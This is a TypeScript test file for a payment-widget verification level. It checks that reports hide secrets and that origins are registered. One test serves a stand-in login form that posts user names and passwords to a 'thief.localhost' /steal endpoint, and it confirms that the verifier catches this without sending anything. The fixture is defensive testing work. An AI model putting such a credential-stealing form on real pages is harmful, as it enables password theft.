import { describeReport } from '../../../demo/deploy/contract-kit/report-lines.ts';
import { standardTestCards } from '../../../demo/deploy/contract-kit/test-cards.ts';
import { verify } from '../../../demo/deploy/verify.ts';
import { expect, test } from '../../support/fixtures.ts';
import { expectNothingWrong, kitPassword, verifyInBrowser } from '../../support/verify-widget.ts';

// `npm run mutate -- widget` shows what the level notices.
test.describe('npm run verify -- --level widget', () => {
  test('finds nothing wrong in the sandbox, and no secret is in its report', async ({
    sandbox,
  }) => {
    const report = await verifyInBrowser(sandbox, 'https://app.example/login');
    expectNothingWrong(report);
    const text = JSON.stringify(report) + describeReport(report).join('\n');
    const { userId, password: secret, entityId } = sandbox.merchant;
    const numbers = standardTestCards.map(({ number }) => number);
    for (const hidden of [userId, secret, entityId, kitPassword, ...numbers])
      expect(text.includes(hidden)).toBe(false);
  });

  test('finds nothing wrong for a lenient merchant @full', async ({ sandbox }) => {
    const merchant = await sandbox.createMerchant({ lenient: true });
    expectNothingWrong(
      await verifyInBrowser(sandbox, 'http://app.opp.localhost:4000/login', merchant),
    );
  });

  test('says which origin must be registered, and runs nothing that needs the form @full', async ({
    sandbox,
  }) => {
    const merchant = await sandbox.createMerchant({ origins: ['https://shop.example'] });
    const report = await verifyInBrowser(sandbox, 'https://app.example/login', merchant);
    const [form, ...others] = report.results.filter(({ section }) => section === 'Payment widget');
    expect(form).toMatchObject({
      outcome: 'failed',
      fix: expect.stringContaining('register that of the page'),
    });
    expect(new Set(others.map(({ outcome }) => outcome))).toEqual(new Set(['not run']));
  });

  test('sends the password to no other origin than that of the authentication service @full', async ({
    sandbox,
  }) => {
    const thief = sandbox.siteAt('thief.localhost');
    const service = sandbox.siteAt('login.localhost');
    service.serve({
      path: '/v1/authenticate',
      html: `<form method="post" action="${thief.origin}/steal"><input name="user"><input name="password" type="password"><button>Log in</button></form>`,
    });
    const { userId, password, entityId } = sandbox.merchant;
    const { results } = await verify({
      baseUrl: new URL(sandbox.baseUrl),
      authUrl: new URL(`${service.origin}/`),
      levels: ['widget'],
      only: 'the tracker notices',
      credentials: { userId, password, entityId },
      login: {
        clientId: 'a',
        clientSecret: 'b',
        redirectUri: 'https://app.example/login',
        logoutUri: 'https://app.example/',
        username: 'joe',
        password: kitPassword,
      },
    });
    expect(results.map(({ outcome, details }) => [outcome, ...details])).toEqual([
      ['failed', `the login form sends the password to ${thief.origin}; it was not sent`],
    ]);
    expect(thief.requests()).toEqual([]);
  });
});
